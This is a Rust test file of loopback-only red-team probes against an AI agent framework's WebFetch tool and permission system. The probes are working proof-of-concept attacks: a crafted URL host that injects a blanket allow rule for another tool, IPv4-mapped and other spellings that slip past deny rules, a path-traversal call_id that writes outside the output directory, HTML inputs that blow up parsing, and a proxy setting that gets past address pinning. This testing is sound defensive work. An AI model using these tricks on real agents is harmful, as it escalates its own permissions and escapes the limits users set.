//! Red-team probes of WebFetch / WebSearch (scratch; loopback only, no name is ever resolved through DNS).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use serde_json::json;
use tandem_core::permissions::{Decision, PermissionMode, PermissionPolicy, Rule, RuleKind, Scope, split_rule_list};
use tandem_core::tools::web_fetch::WebFetchTool;
use tandem_core::tools::{Tool, ToolContext};
use tandem_core::web::{domain_matches, fetch_url, rule_host};
use tandem_testkit::{WebPage, WebSite};

fn decide(mode: PermissionMode, rules: &[(RuleKind, &str)], url: &str) -> Decision {
    let dir = tempfile::tempdir().unwrap();
    let mut policy = PermissionPolicy::for_cwd(mode, dir.path());
    for (kind, rule) in rules {
        policy.add_rule(*kind, rule, Scope::Flag).unwrap();
    }
    policy.decide(&WebFetchTool::default(), &json!({"url": url, "prompt": "p"}))
}

/// A host can carry `)`, `,`, `(` and `*`; the suggested "always" rule is built by string concatenation, and
/// the answer is split with split_rule_list: the page chooses a second rule. `X(*)` parses as bare `X`.
#[test]
fn suggested_rule_injection_through_the_host() {
    let url = "https://a),mcp__github(*/x";
    let parsed = fetch_url(url).expect("the URL parses");
    println!("host_str = {:?}", parsed.host_str());
    // An ask rule makes decide return before any resolution (no DNS traffic).
    let decision = decide(PermissionMode::Default, &[(RuleKind::Ask, "WebFetch")], url);
    let Decision::Ask { suggested_rule, .. } = decision else { panic!("{decision:?}") };
    println!("suggested_rule = {suggested_rule}");
    let rules = split_rule_list(&suggested_rule);
    println!("an 'always' answer adds: {rules:?}");
    let parsed: Vec<Rule> = rules.iter().map(|text| Rule::parse(text).unwrap()).collect();
    println!("{parsed:?}");
    assert!(parsed.iter().any(|rule| rule.tool == "mcp__github" && rule.specifier.is_none()));
}

/// Deny rules match the host string only: an IPv4-mapped IPv6 spelling of a denied address is not denied.
#[tokio::test]
async fn deny_rule_bypassed_by_ipv4_mapped_spelling() {
    let site = WebSite::spawn(vec![("/secret", WebPage::typed("text/plain", b"metadata-token".to_vec()))]).unwrap();
    let port = site.addr().port();
    let deny = [(RuleKind::Deny, "WebFetch(domain:127.0.0.1)")];
    let plain = format!("http://127.0.0.1:{port}/secret");
    assert!(matches!(decide(PermissionMode::BypassPermissions, &deny, &plain), Decision::Deny { .. }));
    let mapped = format!("http://[::ffff:127.0.0.1]:{port}/secret");
    let decision = decide(PermissionMode::BypassPermissions, &deny, &mapped);
    println!("mapped spelling under deny rule: {decision:?}");
    assert_eq!(decision, Decision::Allow);
    let output = WebFetchTool::default()
        .run(json!({"url": mapped, "prompt": ""}), &ToolContext::new(std::env::temp_dir()))
        .await;
    println!("{}", output.content);
    println!("hits: {:?}", site.hits());
    assert!(output.content.contains("metadata-token"));
    // Other spellings a user may write in a deny rule that deny nothing.
    assert_eq!(
        decide(PermissionMode::BypassPermissions, &[(RuleKind::Deny, "WebFetch(domain:*)")], &plain),
        Decision::Allow
    );
    let with_port = format!("WebFetch(domain:127.0.0.1:{port})");
    assert_eq!(decide(PermissionMode::BypassPermissions, &[(RuleKind::Deny, &with_port)], &plain), Decision::Allow);
    let idn = rule_host(&fetch_url("https://bücher.de/").unwrap());
    println!("bücher.de is {idn}; deny domain:bücher.de matches: {}", domain_matches("domain:bücher.de", &idn));
    assert!(!domain_matches("domain:bücher.de", &idn));
}

/// WebFetch writes the whole page to `webfetch-{call_id}.md` without cleaning the id (MCP's spill does).
#[tokio::test]
async fn call_id_escapes_the_output_dir() {
    let big = "A".repeat(120_000);
    let site = WebSite::spawn(vec![("/big", WebPage::typed("text/plain", big.into_bytes()))]).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let outputs = dir.path().join("session").join("outputs");
    let mut ctx = ToolContext::new(dir.path().to_path_buf());
    ctx.output_dir = Some(outputs.clone());
    ctx.call_id = Some("x/../../../escaped".into());
    let url = site.url("/big");
    assert_eq!(
        decide(PermissionMode::Default, &[(RuleKind::Allow, "WebFetch(domain:127.0.0.1)")], &url),
        Decision::Allow
    );
    let output = WebFetchTool::default().run(json!({"url": url, "prompt": ""}), &ctx).await;
    let tail: String = output.content.chars().rev().take(300).collect::<String>().chars().rev().collect();
    println!("{tail}");
    let escaped = dir.path().join("escaped.md");
    println!("written outside outputs: {} -> {}", escaped.display(), escaped.exists());
    assert!(escaped.exists());
}

fn count_nodes(root: &std::rc::Rc<markup5ever_rcdom::Node>) -> usize {
    let mut stack = vec![root.clone()];
    let mut count = 0;
    while let Some(node) = stack.pop() {
        count += 1;
        stack.extend(node.children.borrow().iter().cloned());
    }
    count
}

/// html5ever's "reconstruct the active formatting elements": N distinct open <b>s (Noah's Ark never merges them)
/// are re-created for every `<div>x</div>`, so input of 12·(N+M) bytes builds N·M elements.
#[test]
fn formatting_element_reconstruction_blows_up() {
    // `<b id=K/>`: the scan of tags takes the slash for a self-closing tag and counts no nesting; html5ever
    // ignores the slash on a non-void element, so the <b> stays open (and its id is "K/").
    for n in [250usize, 1000, 2000] {
        let m = n;
        let mut html = String::from("<body><div>");
        for i in 0..n {
            html.push_str(&format!("<b id={i}/>"));
        }
        html.push_str("</div>");
        for _ in 0..m {
            html.push_str("<div>x</div>");
        }
        let started = Instant::now();
        let tree = htmd::HtmlToMarkdown::new().html_to_tree(&html).unwrap();
        let parsed = started.elapsed();
        let nodes = count_nodes(&tree);
        drop(tree);
        let started = Instant::now();
        let page = tandem_core::web::html::to_markdown(&html);
        let converted = started.elapsed();
        assert!(!page.markdown.starts_with("[The page nests"), "the nesting pre-check caught it");
        println!(
            "N=M={n}: {} bytes -> {nodes} nodes; parse {parsed:?}; to_markdown {converted:?} ({} chars)",
            html.len(),
            page.markdown.len()
        );
    }
}

/// Even a tag scan that nests correctly can't see it: 390 open <b>s stay under the 400 limit, and each
/// 12-byte `<div>x</div>` re-creates all 390 of them.
#[test]
fn reconstruction_under_the_nesting_limit() {
    let n = 390;
    for m in [2_000usize, 8_000] {
        let mut html = String::from("<body><div>");
        for i in 0..n {
            html.push_str(&format!("<b id={i}>"));
        }
        html.push_str("</div>");
        for _ in 0..m {
            html.push_str("<div>x</div>");
        }
        let started = Instant::now();
        let page = tandem_core::web::html::to_markdown(&html);
        assert!(!page.markdown.starts_with("[The page nests"), "the nesting pre-check caught it");
        println!("N={n} M={m}: {} bytes; to_markdown {:?}", html.len(), started.elapsed());
    }
}

/// The nesting pre-check looks for the `>` of every `<` from there to the end: "<a" repeated with no `>`
/// makes it quadratic before html5ever (linear on this input) even starts.
#[test]
fn nesting_scan_is_quadratic_without_gt() {
    for kb in [20usize, 40, 80] {
        let html = "</a".repeat(kb * 341);
        let started = Instant::now();
        let page = tandem_core::web::html::to_markdown(&html);
        let total = started.elapsed();
        let started = Instant::now();
        let _tree = htmd::HtmlToMarkdown::new().html_to_tree(&html).unwrap();
        println!(
            "{kb} KB of \"</a\": to_markdown {total:?} ({} chars); html5ever alone {:?}",
            page.markdown.len(),
            started.elapsed()
        );
    }
}

/// With HTTPS_PROXY set, a public host's fetch goes to the proxy (which resolves the name itself), not to the
/// addresses the check pinned. Run alone: `-- proxy_env --exact --test-threads=1`. 192.0.2.1 is never contacted:
/// the client connects to the loopback "proxy" only.
#[tokio::test]
async fn proxy_env_bypasses_pinning() {
    // Run as: HTTPS_PROXY=http://127.0.0.1:38123 cargo test ... -- proxy_env --exact
    if std::env::var("HTTPS_PROXY").ok().as_deref() != Some("http://127.0.0.1:38123") {
        println!("skipped (set HTTPS_PROXY=http://127.0.0.1:38123 and run alone)");
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:38123").unwrap();
    let seen = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let mut buf = [0u8; 512];
        let n = stream.read(&mut buf).unwrap_or(0);
        let _ = stream.write_all(b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\n\r\n");
        String::from_utf8_lossy(&buf[..n]).into_owned()
    });
    let url = url::Url::parse("https://192.0.2.1/").unwrap();
    let result = tandem_core::web::fetch::fetch(
        url,
        tandem_core::web::fetch::FetchLimits::default(),
        &tokio_util::sync::CancellationToken::new(),
    )
    .await;
    println!("fetch: {result:?}");
    let request = seen.join().unwrap();
    println!("the proxy received: {request:?}");
    assert!(request.starts_with("CONNECT 192.0.2.1:443"));
}
